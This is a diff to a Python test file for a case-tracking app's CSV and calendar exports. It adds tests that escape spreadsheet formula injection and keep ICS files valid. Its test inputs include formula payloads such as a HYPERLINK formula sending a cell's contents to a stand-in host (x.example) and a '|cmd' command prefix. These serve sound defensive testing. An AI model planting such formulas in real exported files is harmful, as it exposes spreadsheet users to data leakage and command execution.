@@ -16,6 +16,7 @@ from followup.export import (
     from_json,
     ics_filename,
     json_filename,
+    legal_ics,
     timeline_csv_filename,
     to_csv,
     to_ics,
@@ -77,7 +78,7 @@ def test_csv_has_one_readable_row_per_case() -> None:
     assert len(rows) == 3
     assert rows[1] == [
         "",
-        "48213",
+        "#48213",
         "Red Rápida, S.L.",
         "Correo electrónico",
         "2026-11-03",
@@ -101,10 +102,46 @@ def test_csv_uses_crlf_line_endings() -> None:
     assert "1 hora hábil" in text
 
 
-@pytest.mark.parametrize("value", ['=HYPERLINK("x")', "+34 600", "-1", "@SUM(A1)", "\t=1"])
+@pytest.mark.parametrize("value", ['=HYPERLINK("x")', "+34 600", "-1", "@SUM(A1)", "|cmd"])
 def test_csv_neutralises_spreadsheet_formulas(value: str) -> None:
     rows = read_csv(to_csv(CaseLog(cases=(CaseFile(id="x", company=value),))))
     assert rows[1][2] == "'" + value
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("\x00=1+1", "'=1+1"),  # the NUL vanished on import and the formula ran
+        ("\t=1+1", "' =1+1"),
+        ("  =1+1", "'  =1+1"),
+        ("\u200b\u00a0@A1", "'\u200b\u00a0@A1"),
+        ("＝1+1", "'＝1+1"),  # full-width forms, folded to ASCII by some spreadsheets
+        ("﹢34", "'﹢34"),
+        (
+            '\x00=HYPERLINK("http://x.example/?"&B2;"Ver caso")',
+            '\'=HYPERLINK("http://x.example/?"&B2;"Ver caso")',
+        ),
+        ("a\x07b\x1bc\x7fd\x85e", "abcde"),
+        ("Resumen = bien", "Resumen = bien"),
+    ],
+)
+def test_csv_neutralises_a_formula_whatever_precedes_it_and_drops_control_characters(
+    value: str, cell: str
+) -> None:
+    rows = read_csv(to_csv(CaseLog(cases=(CaseFile(id="x", company=value),))))
+    assert rows[1][2] == cell
+
+
+@pytest.mark.parametrize("number", ["000123", "1234567890123456789", "12-05", "N/A"])
+def test_case_numbers_are_exported_as_text_the_way_the_messages_write_them(number: str) -> None:
+    log = CaseLog(cases=(CaseFile(id="x", case_number=number),))
+    assert read_csv(to_csv(log))[1][1] == f"#{number}"
+    timeline = CaseLog(
+        cases=(
+            CaseFile(id="x", case_number=number, interactions=(Interaction(D4, Channel.EMAIL),)),
+        )
+    )
+    assert read_csv(to_timeline_csv(timeline))[1][1] == f"#{number}"
 
 
 @given(case_logs())
@@ -148,7 +185,7 @@ def test_timeline_csv_has_one_row_per_interaction_in_date_order() -> None:
     assert [r[3] for r in rows[1:]] == ["2026-11-04", "2026-11-05", "2026-11-09"]
     assert rows[3] == [
         "Router",
-        "48213",
+        "#48213",
         "Red Rápida, S.L.",
         "2026-11-09",
         "Chat",
@@ -265,3 +302,62 @@ def test_file_names() -> None:
     assert ics_filename(CaseFile(id="x", case_number="¿?")) == "seguimiento-caso.ics"
     assert csv_filename(dt.date(2026, 11, 10)) == "sigue-tu-caso-2026-11-10.csv"
     assert json_filename(dt.date(2026, 11, 10)) == "sigue-tu-caso-copia-2026-11-10.json"
+
+
+# --- every calendar file is valid RFC 5545 (parsed by the PyPI `icalendar` package) -----
+
+# Any character at all, controls and lone surrogates included: what a stored document or a
+# paste can bring.
+hostile_text = st.text(st.characters(codec=None, categories=None), max_size=80)
+valid_days = st.dates(min_value=dt.date(1970, 1, 1), max_value=dt.date(2100, 12, 31))
+CONTROL = re.compile("[\x00-\x08\x0a-\x1f\x7f]")
+
+
+def assert_valid_calendar(text: str) -> None:
+    import icalendar
+
+    assert not CONTROL.search(text.replace("\r\n", "")), "a control character in the file"
+    assert all(len(line.encode()) <= 75 for line in text.split("\r\n"))
+    calendar = icalendar.Calendar.from_ical(text)
+    assert not calendar.errors
+    (event,) = calendar.walk("VEVENT")
+    assert not event.errors and event.get("DTSTART") and event.get("SUMMARY") is not None
+    (alarm,) = event.walk("VALARM")
+    assert alarm.get("TRIGGER") is not None
+    assert calendar.to_ical()  # and it writes back
+
+
+@given(
+    title=hostile_text,
+    number=hostile_text,
+    company=hostile_text,
+    summary=hostile_text,
+    day=valid_days,
+)
+def test_every_calendar_file_is_valid_whatever_the_case_holds(
+    title: str, number: str, company: str, summary: str, day: dt.date
+) -> None:
+    case = CaseFile(
+        id="c-1", title=title, case_number=number, company=company, summary=summary, next_action=day
+    )
+    now = dt.datetime(2026, 11, 12, 10, 30, tzinfo=dt.UTC)
+    assert_valid_calendar(to_ics(case, now))
+    assert_valid_calendar(legal_ics(case, now, day, "la empresa debe responder"))
+
+
+def test_control_characters_typed_into_a_field_never_reach_the_calendar_file() -> None:
+    import icalendar
+
+    case = CaseFile(
+        id="c-1", case_number="48\x00213", company="Conecta\x07\x1b Fibra\x7f", next_action=D4
+    )
+    text = to_ics(case, dt.datetime(2026, 11, 12, tzinfo=dt.UTC))
+    assert_valid_calendar(text)
+    (event,) = icalendar.Calendar.from_ical(text).walk("VEVENT")
+    assert str(event["SUMMARY"]) == "Seguimiento del caso #48213 – Conecta Fibra"
+
+
+def test_a_date_out_of_range_is_refused_with_a_message_instead_of_a_crash() -> None:
+    case = CaseFile(id="c-1", next_action=dt.date(9999, 12, 31))
+    with pytest.raises(ValueError, match="entre el año 1970"):
+        to_ics(case, dt.datetime(2026, 11, 12, tzinfo=dt.UTC))
